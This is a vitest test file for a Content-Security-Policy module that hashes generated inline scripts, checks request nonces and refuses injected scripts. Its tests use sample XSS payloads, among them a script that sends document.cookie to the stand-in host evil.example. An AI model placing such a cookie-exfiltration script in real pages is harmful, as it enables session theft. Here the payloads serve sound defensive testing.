import crypto from 'node:crypto';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addContentSecurityPolicy, contentSecurityPolicy, scriptSources } from '@/lib/http/csp.mjs';
import { inlineScripts, isGeneratedScript, scriptHash, trustGeneratedPage } from '@/lib/http/generated-scripts.mjs';

const sha = (body: string) => `'sha256-${crypto.createHash('sha256').update(body).digest('base64')}'`;

describe('script sources for the Content-Security-Policy', () => {
  it('hash each inline script, note its nonce and ignore external ones', () => {
    const html = '<script>self.__next_f.push([1])</script><script src="/a.js"></script><script nonce="abc" async="">x()</script>';
    expect(inlineScripts(html)).toEqual([
      { hash: sha('self.__next_f.push([1])'), nonce: null },
      { hash: sha('x()'), nonce: 'abc' },
    ]);
  });

  it('allow a rendered page its nonce and refuse an inline script without it', () => {
    const html = '<script nonce="n1">self.__next_f.push([1,"a"])</script><script>alert(document.cookie)</script>';
    const { sources, refused } = scriptSources(html, 'n1', () => false);
    expect(sources).toEqual(["'nonce-n1'"]);
    expect(refused).toEqual([sha('alert(document.cookie)')]);
  });

  it('name on a prerendered page only the scripts generated into it', () => {
    const generated = '<html><script>self.__next_f.push([0])</script><script>self.__next_f.push([1,"page"])</script></html>';
    trustGeneratedPage(generated);
    const served = generated.replace('</html>', '<script>fetch("//evil.example/"+document.cookie)</script></html>');
    const { sources, refused } = scriptSources(served, 'fresh-nonce');
    expect(sources).toEqual(["'nonce-fresh-nonce'", sha('self.__next_f.push([0])'), sha('self.__next_f.push([1,"page"])')]);
    expect(refused).toEqual([sha('fetch("//evil.example/"+document.cookie)')]);
    expect(isGeneratedScript(scriptHash('self.__next_f.push([0])'))).toBe(true);
  });

  it("a script carrying another nonce than the request's is not allowed by it", () => {
    const { sources, refused } = scriptSources('<script nonce="guessed">x()</script>', 'real', () => false);
    expect(sources).toEqual(["'nonce-real'"]);
    expect(refused).toEqual([sha('x()')]);
  });

  it('allow no inline script without its hash or nonce, no plugins, no framing', () => {
    const csp = contentSecurityPolicy(["'nonce-abc'", "'sha256-abc='"]);
    expect(csp).toContain("script-src 'self' 'nonce-abc' 'sha256-abc='");
    expect(csp.split('; ').find((d) => d.startsWith('script-src'))).not.toContain('unsafe');
    expect(csp).toContain("object-src 'none'");
    expect(csp).toContain("frame-ancestors 'none'");
  });
});

describe('the response wrapper', () => {
  let server: http.Server;
  let base: string;
  const refusedLog: string[] = [];
  beforeAll(async () => {
    server = http.createServer((req, res) => {
      addContentSecurityPolicy(res, { nonce: 'test-nonce', isGenerated: (hash) => hash === sha('one()'), onRefused: (hashes) => refusedLog.push(...hashes) });
      if (req.url === '/page') {
        res.setHeader('Content-Type', 'text/html; charset=utf-8');
        res.write('<html><script>one()</script>');
        res.end('<script>two()</script></html>');
      } else if (req.url === '/implicit') {
        res.setHeader('Content-Type', 'application/javascript');
        res.write('console.log(1);'); // Node writes the headers implicitly here
        res.end();
      } else {
        res.writeHead(200, { 'Content-Type': 'text/css', 'Content-Length': '4' });
        res.end('a{} ');
      }
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  it('sets the policy of a streamed HTML page: its nonce, its generated scripts, not the others', async () => {
    const response = await fetch(`${base}/page`);
    const body = await response.text();
    expect(body).toBe('<html><script>one()</script><script>two()</script></html>');
    const policy = response.headers.get('content-security-policy') ?? '';
    expect(policy).toContain(`script-src 'self' 'nonce-test-nonce' ${sha('one()')};`);
    expect(policy).not.toContain(sha('two()'));
    expect(refusedLog).toEqual([sha('two()')]);
    expect(Number(response.headers.get('content-length'))).toBe(Buffer.byteLength(body));
  });

  it('passes other responses through untouched, implicit headers included', async () => {
    const script = await fetch(`${base}/implicit`);
    expect(await script.text()).toBe('console.log(1);');
    expect(script.headers.get('content-security-policy')).toBeNull();
    const css = await fetch(`${base}/css`);
    expect(await css.text()).toBe('a{} ');
  });
});
